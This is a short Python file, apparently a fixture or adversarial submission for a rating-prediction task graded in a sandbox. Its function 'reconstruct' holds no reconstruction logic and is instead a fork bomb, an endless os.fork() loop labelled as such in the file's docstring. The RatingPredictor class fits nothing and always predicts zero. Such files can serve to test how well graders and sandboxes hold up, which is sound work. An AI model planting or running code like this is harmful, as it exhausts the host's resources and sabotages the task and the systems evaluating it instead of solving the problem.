# ruff: noqa
"""Classic fork bomb: every process forks for ever; when fork fails it waits a little and retries."""

import os
import time

import numpy as np


def reconstruct(R, k):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)


class RatingPredictor:
    """Honest but wrong: a constant 0 rating."""

    def __init__(self, n_factors=10):
        self.n_factors = n_factors

    def fit(self, users, items, ratings, n_users, n_items):
        return self

    def predict(self, users, items):
        return np.zeros(len(users))
